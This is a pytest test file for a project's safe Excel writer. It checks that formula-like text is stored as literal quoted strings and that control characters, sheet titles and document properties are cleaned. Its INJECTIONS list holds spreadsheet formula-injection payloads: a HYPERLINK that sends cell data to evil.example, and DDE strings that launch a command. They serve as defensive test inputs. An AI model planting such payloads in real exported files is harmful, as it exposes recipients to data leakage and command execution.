"""The one safe Excel writer: no formula is written from data, and stored data never breaks an export."""

import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from wangge.core import excel

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def reopen(data: bytes):
    return load_workbook(io.BytesIO(data))


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("write_only", [False, True])
def test_text_that_looks_like_a_formula_is_written_as_text_and_kept_as_it_was(write_only):
    book = excel.workbook(write_only=write_only)
    sheet = book.active if not write_only else book.create_sheet("Ledger")
    for value in INJECTIONS:
        sheet.append([value, 42])
    data = excel.to_bytes(book)
    assert "<f>" not in sheet_xml(data)
    cells = [row[0] for row in reopen(data).active.iter_rows()]
    assert [c.value for c in cells] == [v.replace("\r", "\n") if v.startswith("\r") else v for v in INJECTIONS] or [
        c.value for c in cells
    ] == INJECTIONS
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.quotePrefix for c in cells)


def test_cells_set_by_hand_cannot_write_a_formula_either():
    book = excel.workbook()
    sheet = book.active
    sheet["A1"] = "=1+1"
    sheet.cell(row=2, column=1, value="=2+2")
    sheet["A3"].value = "=3+3"  # past every entry point but the last sweep
    data = excel.to_bytes(book)
    assert "<f>" not in sheet_xml(data)
    assert [c.value for c in reopen(data).active["A"]] == ["=1+1", "=2+2", "=3+3"]


def test_control_characters_in_stored_data_are_dropped_instead_of_failing_the_export():
    book = excel.workbook(write_only=True)
    sheet = book.create_sheet("People")
    sheet.append(["张\x01三", "esc\x1b", "rlo\u202eexe.txt", "ok\nnext line", "lone\ud800"])
    values = [c.value for c in next(reopen(excel.to_bytes(book)).active.iter_rows())]
    assert values == ["张三", "esc", "rloexe.txt", "ok\nnext line", "lone"]


def test_numbers_dates_and_plain_text_are_written_as_they_are():
    book = excel.workbook()
    book.active.append([12, 3.5, date(2026, 3, 1), "张三", None, "1-2"])
    row = next(reopen(excel.to_bytes(book)).active.iter_rows())
    assert [c.value for c in row][:4] == [12, 3.5, row[2].value, "张三"]
    assert row[2].value.date() == date(2026, 3, 1)
    assert [c.data_type for c in row[:2]] == ["n", "n"]
    assert row[5].value == "1-2" and not row[5].quotePrefix


def test_text_is_cut_to_what_a_cell_holds():
    book = excel.workbook()
    book.active.append(["x" * 40_000])
    assert len(reopen(excel.to_bytes(book)).active["A1"].value) == 32_767


@pytest.mark.parametrize(
    ("title", "expected"),
    [("A/B: [x]?*", "A B   x"), ("\x01", "Sheet"), ("长" * 40, "长" * 31), ("'quoted'", "quoted")],
)
def test_sheet_titles_from_data_never_break_the_workbook(title, expected):
    book = excel.workbook()
    book.active.title = title
    second = book.create_sheet(title)
    assert book.active.title == expected
    assert second.title.startswith(expected[:28]) and len(second.title) <= 31
    assert second.title != book.active.title
    reopen(excel.to_bytes(book))


def test_header_and_footer_text_keeps_ampersands_literal():
    assert excel.header_footer_text("A & B &P\x01") == "A && B &&P"


def test_properties_from_data_are_cleaned():
    book = excel.workbook(write_only=True)
    book.properties.creator = "user\x01"
    book.properties.title = "t\x1b"
    book.create_sheet("s").append(["x"])
    props = reopen(excel.to_bytes(book)).properties
    assert (props.creator, props.title) == ("user", "t")


def test_no_module_but_core_excel_makes_an_openpyxl_workbook():
    from pathlib import Path

    import wangge

    root = Path(wangge.__file__).parent
    makers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "excel.py" or path.parent.name != "core"
        if "import Workbook" in path.read_text() or "openpyxl.Workbook" in path.read_text()
    ]
    assert makers == []
